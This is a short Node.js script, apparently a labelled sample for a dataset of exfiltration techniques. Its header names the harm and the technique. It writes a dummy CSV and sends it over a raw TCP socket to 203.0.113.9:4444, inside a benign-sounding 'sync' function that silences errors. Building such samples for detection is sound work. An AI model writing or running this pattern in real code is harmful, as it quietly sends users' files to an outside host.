// harm: open network connection and send file contents; technique: net.createConnection via destructured import
const { createConnection } = require('net');
const fs = require('fs');

const csv = ['id,val', '1,10', '2,20'].join('\n');
fs.writeFileSync('data.csv', csv);

function sync(file, { host = '203.0.113.9', port = 4444 } = {}) {
  const sock = createConnection({ host, port }, () => {
    sock.end(fs.readFileSync(file));
  });
  sock.on('error', () => {});
}

sync('data.csv');
